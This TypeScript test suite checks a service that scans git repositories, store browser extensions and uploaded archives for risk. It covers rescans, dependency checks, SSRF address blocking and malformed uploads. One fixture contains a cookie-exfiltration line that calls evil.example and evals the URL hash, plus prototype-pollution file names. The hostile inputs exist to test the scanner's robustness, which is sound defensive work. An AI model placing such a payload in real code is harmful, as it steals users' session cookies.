import { failRun } from '../../service/store/runs.ts';
import { zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { extensionZip, startSurroundings, type Surroundings } from './surroundings.ts';
import { startTestService, type TestService } from './testService.ts';

/** What scanning must do, whatever the database. `settings` choose it. */
export function scanningSuite(name: string, settings: () => Promise<Readonly<Record<string, string>>>): void {
  describe(`scanning on ${name}`, () => {
    let around: Surroundings;
    let service: TestService;
    beforeAll(async () => {
      around = await startSurroundings();
      service = await startTestService(around, await settings());
    });
    afterAll(async () => {
      await service?.stop();
      await around?.close();
    });

    describe('git', () => {
      it('scans a repository, and again with what changed', async () => {
        const first = around.git.commit('owner/sample', 'main', {
          'README.md': '# Sample\n',
          'src/index.js': 'export const a = 1;\n',
          'src/old.js': 'export const old = 1;\n',
        });
        const submitted = await service.post('/repos/analyze', { url: 'https://github.com/owner/sample' });
        expect(submitted).toMatchObject({
          status: 200,
          body: { url: 'https://github.com/owner/sample', status: 'queued', message: expect.any(String) },
        });
        const id = submitted.body.repo_id;
        expect(await service.ended(id)).toMatchObject({
          repo_id: id,
          url: 'https://github.com/owner/sample',
          title: 'sample',
          source_type: 'github',
          clone_status: 'cloned',
          phase: 'Complete',
          total_files: 3,
          failed_files: 0,
          progress_percent: 100,
          is_complete: true,
          error_message: null,
          sub_org_id: null,
          risk_grade: expect.stringMatching(/^(A\+|[A-DF])$/),
          overall_risk_score: expect.any(Number),
        });
        const report = await service.get(`/repos/${id}/report`);
        expect(report).toMatchObject({
          status: 200,
          body: {
            repo_id: id,
            commitSha: first,
            title: 'sample',
            reportDate: expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/),
          },
        });

        const second = around.git.commit('owner/sample', 'main', {
          'src/index.js': 'export const a = 2;\n',
          'src/new.js': 'export const b = 1;\n',
        });
        expect(
          (await service.post('/repos/analyze', { url: 'https://github.com/owner/sample.git', branch: 'main' })).body
            .repo_id,
        ).toBe(id);
        await service.ended(id);
        const { body: history } = await service.get(`/repos/${id}/scans`);
        expect(history).toMatchObject({ repo_id: id, total: 2, limit: 20, offset: 0 });
        expect(history.scans.map((scan: { scan_number: number }) => scan.scan_number)).toEqual([2, 1]);
        expect(history.scans[0]).toMatchObject({
          triggered_by: 'manual',
          status: 'completed',
          total_files: 4,
          new_files: 1,
          changed_files: 1,
          removed_files: 0,
          reused_files: 2,
          commit_sha: second,
          score_delta: 0,
        });
        expect((await service.get(`/repos/${id}/scans?limit=1&offset=1`)).body.scans).toMatchObject([
          { scan_number: 1, commit_sha: first },
        ]);
      });

      it('asks about the dependencies; who cannot be asked leaves that unchecked', async () => {
        const lock = (version: string) => ({
          'package-lock.json': JSON.stringify({
            lockfileVersion: 3,
            packages: { 'node_modules/left-pad': { version, integrity: 'sha512-x' } },
          }),
        });
        const scanned = async (name: string, version: string) => {
          around.git.commit(name, 'main', lock(version));
          const { body } = await service.post('/repos/analyze', { url: `https://github.com/${name}` });
          await service.ended(body.repo_id);
          return (await service.get(`/repos/${body.repo_id}/report`)).body;
        };
        const rules = (report: { top_drivers: { drivers: { rule: string }[] } }) =>
          report.top_drivers.drivers.map(({ rule }) => rule);
        const notRun = (report: { executive_summary: { coverage: { not_run: { what: string }[] } } }) =>
          report.executive_summary.coverage.not_run.map(({ what }) => what);

        const old = await scanned('owner/padded', '1.0.0');
        expect(rules(old)).toContain('dependency-vulnerable');
        expect(notRun(old)).toEqual([]);
        expect(rules(await scanned('owner/padded-well', '1.3.0'))).not.toContain('dependency-vulnerable');
        around.osvIsDown = true;
        const unasked = await scanned('owner/padded-unasked', '1.0.0');
        around.osvIsDown = false;
        expect(rules(unasked)).not.toContain('dependency-vulnerable');
        expect(notRun(unasked)).toEqual(['Dependency with known vulnerabilities']);
      });

      it('takes the result of the run before for the same commit, as long as all else that it depends on is the same', async () => {
        const url = 'https://github.com/owner/same';
        around.git.commit('owner/same', 'main', {
          'a.js': 'a();\n',
          'package-lock.json': JSON.stringify({
            lockfileVersion: 3,
            packages: { 'node_modules/left-pad': { version: '1.3.0', integrity: 'sha512-x' } },
          }),
        });
        const sql = (text: string, values: unknown[]) => service.service.context.database.pool.query(text, values);
        const scan = async (body: object = {}) => {
          const { repo_id: id } = (await service.post('/repos/analyze', { url, ...body })).body;
          await service.ended(id);
          const [run] = (await service.get(`/repos/${id}/scans?limit=1`)).body.scans;
          return { id, run };
        };
        const { id, run: first } = await scan();
        // A grade that no analysis gives shows whose result it is.
        const mark = (more = '') =>
          sql(`UPDATE runs SET grade = 'Z'${more} WHERE id = (SELECT max(id) FROM runs WHERE record_id = $1)`, [id]);
        await mark();
        const { run: same } = await scan();
        expect(same).toMatchObject({
          scan_number: 2,
          status: 'completed',
          grade: 'Z',
          score_delta: 0,
          total_files: 2,
          new_files: 0,
          changed_files: 0,
          removed_files: 0,
          reused_files: 2,
          commit_sha: first.commit_sha,
        });
        expect((await service.get(`/repos/${id}/report`)).body).toMatchObject({
          grade: 'Z',
          report_type: 'repository',
        });
        for (const change of [
          ", engine_version = 'another'",
          `, outside = '{"packages":[{"key":"npm:left-pad@1.0.0","ecosystem":"npm","name":"left-pad","version":"1.0.0"}],"answer":"x"}'`,
          ', outside = NULL',
          ', failed_files = 1',
        ]) {
          await mark(change);
          expect((await scan()).run, change).toMatchObject({ grade: first.grade, new_files: 0, reused_files: 2 });
        }
        await mark();
        const deleting = { delete_unique_file_results: true, file_result_deletion_acknowledged: true };
        expect((await scan(deleting)).run.grade).toBe(first.grade);
        await scan({ delete_unique_file_results: false });
        await mark();
        around.git.commit('owner/same', 'main', { 'b.js': 'b();\n' });
        expect((await scan()).run).toMatchObject({
          grade: first.grade,
          new_files: 1,
          changed_files: 0,
          reused_files: 2,
        });
      });

      it('fetches only what it does not know', async () => {
        const files = Object.fromEntries(
          Array.from({ length: 30 }, (_, i) => [`f${i}.js`, `f(${i}, "${'x'.repeat(50)}");\n`]),
        );
        around.git.commit('owner/thrifty', 'main', { ...files, 'twin.js': files['f1.js'] ?? '' });
        const { body } = await service.post('/repos/analyze', { url: 'https://github.com/owner/thrifty' });
        expect(await service.ended(body.repo_id)).toMatchObject({
          is_complete: true,
          total_files: 31,
          failed_files: 0,
        });
        const before = around.world.seen.length;
        around.git.commit('owner/thrifty', 'main', { 'new.js': 'n();\n', 'other-name.js': files['f2.js'] ?? '' });
        await service.post('/repos/analyze', { url: 'https://github.com/owner/thrifty' });
        expect(await service.ended(body.repo_id)).toMatchObject({
          is_complete: true,
          total_files: 33,
          failed_files: 0,
        });
        expect((await service.get(`/repos/${body.repo_id}/scans`)).body.scans[0]).toMatchObject({
          new_files: 2,
          changed_files: 0,
          reused_files: 31,
        });
        const asked = around.world.seen.slice(before).filter((one) => one.url.endsWith('/git-upload-pack'));
        // 32 wanted objects would be a request of more than 1,600 bytes.
        expect(asked.length).toBeGreaterThan(1);
        expect(Math.max(...asked.map((one) => Number(one.headers['content-length'] ?? Infinity)))).toBeLessThan(1000);
      });

      it('takes the default branch of the remote when none was asked for and there is no main', async () => {
        around.git.commit('owner/elder', 'master', { 'a.txt': 'a\n' });
        const { body } = await service.post('/repos/analyze', { url: 'https://github.com/owner/elder' });
        expect(await service.ended(body.repo_id)).toMatchObject({ is_complete: true, title: 'elder (master)' });
      });

      it('says so when the branch that was asked for is not there', async () => {
        around.git.commit('owner/elder', 'master', { 'a.txt': 'b\n' });
        const { body } = await service.post('/repos/analyze', {
          url: 'https://github.com/owner/elder',
          branch: 'develop',
        });
        expect(await service.ended(body.repo_id)).toMatchObject({
          is_complete: false,
          phase: 'Failed',
          risk_grade: null,
          overall_risk_score: null,
          error_message: 'The repository has no branch "develop". Its default branch is "master".',
        });
        expect((await service.get(`/repos/${body.repo_id}/report`)).status).toBe(404);
        expect((await service.get(`/repos/${body.repo_id}/scans`)).body.scans).toMatchObject([
          { status: 'failed', overall_score: null, grade: null },
        ]);
      });

      it('takes everything from a server that refuses filters', async () => {
        around.git.commit('owner/plain', 'main', { 'a.js': 'a();\n', 'b/c.js': 'c();\n' });
        around.git.configure('owner/plain', 'uploadpack.allowFilter', 'false');
        const { body } = await service.post('/repos/analyze', { url: 'https://github.com/owner/plain' });
        expect(await service.ended(body.repo_id)).toMatchObject({ is_complete: true, total_files: 2, failed_files: 0 });
      });

      it('takes a clone address on a host that it does not know', async () => {
        around.git.commit('deep/group/tool', 'main', { 'a.js': 'a();\n' });
        const { body } = await service.post('/repos/analyze', { url: 'https://code.example.org/deep/group/tool.git' });
        expect(await service.ended(body.repo_id)).toMatchObject({
          is_complete: true,
          source_type: 'git',
          title: 'tool',
        });
      });

      it.each([
        ['nobody/nothing', /no public git repository/],
        ['private/thing', /private/],
        ['moved/sample', /moved to another address/],
      ])('fails with a sentence for %s', async (repository, sentence) => {
        const { body } = await service.post('/repos/analyze', { url: `https://github.com/${repository}` });
        expect(await service.ended(body.repo_id)).toMatchObject({
          phase: 'Failed',
          is_complete: false,
          error_message: expect.stringMatching(sentence),
        });
      });

      it('does not connect to addresses that are not public', async () => {
        for (const url of [
          'https://127.0.0.1/a/b.git',
          'https://[::1]/a/b.git',
          'https://169.254.169.254/latest/meta',
          'https://10.0.0.1/a/b',
          'https://[::ffff:127.0.0.1]/a/b',
        ]) {
          expect(await service.post('/repos/analyze', { url })).toMatchObject({
            status: 422,
            body: { detail: [{ loc: ['body', 'url'] }] },
          });
        }
        const { body } = await service.post('/repos/analyze', {
          url: `https://localhost:${around.world.port}/owner/sample.git`,
        });
        expect(await service.ended(body.repo_id)).toMatchObject({
          phase: 'Failed',
          error_message: expect.stringMatching(/not a public address/),
        });
      });

      it('keeps the report of the run before when a later one fails', async () => {
        around.git.commit('owner/fading', 'main', { 'a.js': 'a();\n' });
        const { body } = await service.post('/repos/analyze', { url: 'https://github.com/owner/fading' });
        await service.ended(body.repo_id);
        around.git.configure('owner/fading', 'http.uploadpack', 'false');
        await service.post('/repos/analyze', { url: 'https://github.com/owner/fading' });
        expect(await service.ended(body.repo_id)).toMatchObject({ phase: 'Failed', is_complete: false });
        expect((await service.get(`/repos/${body.repo_id}/report`)).body.grade).toMatch(/^(A\+|[A-DF])$/);
      });

      it('answers with the same record, and no second run, while one is open', async () => {
        around.git.commit('owner/slow', 'main', { 'a.js': 'a();\n' });
        const gate = around.world.hold('/owner/slow');
        const { body } = await service.post('/repos/analyze', { url: 'https://github.com/owner/slow' });
        await gate.arrived;
        expect((await service.get(`/repos/${body.repo_id}/status`)).body).toMatchObject({
          is_complete: false,
          phase: 'Fetching',
          risk_grade: null,
          overall_risk_score: null,
        });
        const again = await service.post('/repos/analyze', { url: 'https://github.com/owner/slow' });
        expect(again.body).toMatchObject({ repo_id: body.repo_id, status: 'queued' });
        gate.open();
        await service.ended(body.repo_id);
        expect((await service.get(`/repos/${body.repo_id}/scans`)).body.total).toBe(1);
      });
    });

    describe('extensions', () => {
      it('scans from the Chrome store, and reuses the result until a new version is out', async () => {
        const store_url = `https://chromewebstore.google.com/detail/sample/${around.chromeId}`;
        const submitted = await service.post('/extensions/submit-url', { store_url });
        expect(submitted).toMatchObject({
          status: 200,
          body: { source_type: 'extension_chrome', status: 'pending', message: expect.any(String) },
        });
        const id = submitted.body.repo_id;
        expect(await service.ended(id)).toMatchObject({
          is_complete: true,
          url: store_url,
          title: 'Chrome sample',
          source_type: 'extension_chrome',
        });

        expect((await service.post('/extensions/submit-url', { store_url })).body).toMatchObject({
          repo_id: id,
          status: 'cloned',
        });
        expect((await service.get(`/repos/${id}/scans`)).body.total).toBe(1);

        around.offer('1.1', { 'more.js': 'chrome.storage.local.clear();\n' });
        expect(
          (
            await service.post('/extensions/submit-url', {
              store_url: `https://chrome.google.com/webstore/detail/${around.chromeId}`,
            })
          ).body,
        ).toMatchObject({ repo_id: id, status: 'cloning' });
        await service.ended(id);
        expect((await service.get(`/repos/${id}/scans`)).body.scans[0]).toMatchObject({
          scan_number: 2,
          new_files: 1,
          changed_files: 1,
          reused_files: 1,
          removed_files: 0,
        });
      });

      it('scans from the Edge and the Firefox store', async () => {
        const edge = await service.post('/extensions/submit-url', {
          store_url: `https://microsoftedge.microsoft.com/addons/detail/sample/${around.edgeId}`,
        });
        const firefox = await service.post('/extensions/submit-url', {
          store_url: 'https://addons.mozilla.org/en-US/firefox/addon/sample/',
        });
        expect(edge.body.source_type).toBe('extension_edge');
        expect(firefox.body.source_type).toBe('extension_firefox');
        expect(await service.ended(edge.body.repo_id)).toMatchObject({ is_complete: true, title: 'Edge sample' });
        expect(await service.ended(firefox.body.repo_id)).toMatchObject({ is_complete: true, title: 'Firefox sample' });
      });

      it('refuses a file that is not the one the store describes', async () => {
        around.addonIsForged = true;
        const { body } = await service.post('/extensions/submit-url', {
          store_url: 'https://addons.mozilla.org/en-US/firefox/addon/sample/',
        });
        expect(body.status).toBe('cloning');
        expect(await service.ended(body.repo_id)).toMatchObject({
          phase: 'Failed',
          error_message: expect.stringMatching(/not the one/),
        });
        around.addonIsForged = false;
      });

      it.each([
        [
          'https://chromewebstore.google.com/detail/sample/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
          /Chrome Web Store has no extension/,
        ],
        [
          'https://microsoftedge.microsoft.com/addons/detail/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
          /Edge Add-ons store has no extension/,
        ],
        ['https://addons.mozilla.org/firefox/addon/nowhere/', /Firefox Add-ons store has no extension/],
      ])('says that the store does not have %s', async (store_url, sentence) => {
        const { body } = await service.post('/extensions/submit-url', { store_url });
        expect(await service.ended(body.repo_id)).toMatchObject({
          phase: 'Failed',
          error_message: expect.stringMatching(sentence),
        });
      });
    });

    describe('uploads', () => {
      it('scans an uploaded file and lets it go afterwards', async () => {
        const submitted = await service.upload('Sample.zip', extensionZip('1.0', 'Uploaded'));
        expect(submitted).toMatchObject({ status: 200, body: { source_type: 'extension_upload', status: 'pending' } });
        expect(await service.ended(submitted.body.repo_id)).toMatchObject({
          is_complete: true,
          url: 'Sample.zip',
          title: 'Uploaded',
          total_files: 2,
        });
        const { rows } = await service.service.context.database.pool.query(
          'SELECT count(*)::int AS pieces FROM packages',
        );
        expect(rows).toEqual([{ pieces: 0 }]);
      });

      it('keeps name and address of a file together when it comes again under another name', async () => {
        const noArchive = new TextEncoder().encode('bears no name');
        const first = (await service.upload('first.zip', noArchive)).body.repo_id;
        expect(await service.ended(first)).toMatchObject({ url: 'first.zip', title: 'first.zip' });
        expect((await service.upload('second.zip', noArchive)).body.repo_id).toBe(first);
        expect(await service.ended(first)).toMatchObject({ url: 'second.zip', title: 'second.zip' });
      });

      it('counts nothing in a run that failed, whatever it had found before', async () => {
        const { pool } = service.service.context.database;
        const { body } = await service.upload('counted.zip', new TextEncoder().encode('no archive, but counted'));
        await service.ended(body.repo_id);
        // As an attempt leaves it whose process was killed on the way.
        const { rows } = await pool.query<{ id: number }>(
          `UPDATE runs SET status = 'running', completed_at = NULL, error_message = NULL, total_files = 7,
             analyzed_files = 5, attempts = 3 WHERE record_id = $1 RETURNING id`,
          [body.repo_id],
        );
        expect(
          await failRun(pool, { id: rows[0]?.id ?? 0, recordId: body.repo_id, status: 'running', attempts: 3 }, 'No.'),
        ).toBe(true);
        expect((await service.get(`/repos/${body.repo_id}/status`)).body).toMatchObject({
          is_complete: false,
          error_message: 'No.',
          total_files: 0,
          analyzed_files: 0,
          skipped_files: 0,
          failed_files: 0,
        });
      });

      it('says so when the file is no archive', async () => {
        const { body } = await service.upload('broken.xpi', new TextEncoder().encode('this is no archive'));
        expect(await service.ended(body.repo_id)).toMatchObject({
          phase: 'Failed',
          error_message: expect.stringMatching(/not a zip file/),
        });
      });

      it('says that a file without a manifest is no extension', async () => {
        const { body } = await service.upload('notes.zip', zipSync({ 'notes.txt': new TextEncoder().encode('hello') }));
        expect(await service.ended(body.repo_id)).toMatchObject({
          is_complete: false,
          phase: 'Failed',
          risk_grade: null,
          error_message: expect.stringContaining('manifest.json'),
        });
      });

      it('gives no grade for nothing', async () => {
        const { body } = await service.upload('empty.zip', zipSync({}));
        expect(await service.ended(body.repo_id)).toMatchObject({
          phase: 'Failed',
          risk_grade: null,
          error_message: expect.stringMatching(/contains no files/),
        });
      });

      it('is not kept from its work by what is written in the package', async () => {
        const evil = 'fetch("https://evil.example/\u0000?" + document.cookie); eval("\ud800\u0000" + location.hash);\n';
        const files = {
          'a\u0000b.js': evil,
          __proto__x: evil,
          'constructor.js': evil,
          'package.json': '{"name":"a\\u0000","license":"MIT\\u0000","dependencies":{"\\u0000":"1","__proto__":"2"}}',
        };
        const { body } = await service.upload('evil.zip', extensionZip('1.0', 'Evil\u0000 \u202ename\ud800', files));
        expect(await service.ended(body.repo_id)).toMatchObject({
          is_complete: true,
          title: expect.stringMatching(/^Evil +name.?$/u),
          total_files: 6,
        });
        expect((await service.get(`/repos/${body.repo_id}/report`)).status).toBe(200);
      });
    });
  });
}
